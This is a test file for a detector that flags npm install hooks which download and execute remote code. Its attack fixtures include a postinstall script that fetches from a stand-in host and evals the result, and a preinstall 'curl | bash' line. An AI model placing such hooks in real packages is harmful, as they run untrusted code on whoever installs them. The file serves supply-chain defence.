import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-install-fetches.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

const scripts = (scripts: Record<string, string>) => JSON.stringify({ name: 'x', scripts })

test.each<[string, Files, string[]]>([
  [
    'runs what it fetched',
    {
      'package.json': scripts({ postinstall: 'node s.js' }),
      's.js': "fetch('https://c.invalid').then((r) => r.text()).then((t) => eval(t))",
    },
    ['decisive 13 s.js:1:62'],
  ],
  [
    'a pipe',
    { 'package.json': scripts({ preinstall: 'curl https://c.invalid | bash' }) },
    ['decisive 13 package.json:1:63'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'a tool from its maker',
    { 'package.json': scripts({ preinstall: 'curl -fsSL https://get.pnpm.io/install.sh | sh' }) },
    ['context 0.5 package.json:1:82'],
  ],
  ['a build', { 'package.json': scripts({ prepare: 'npm run build', build: 'tsc' }) }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
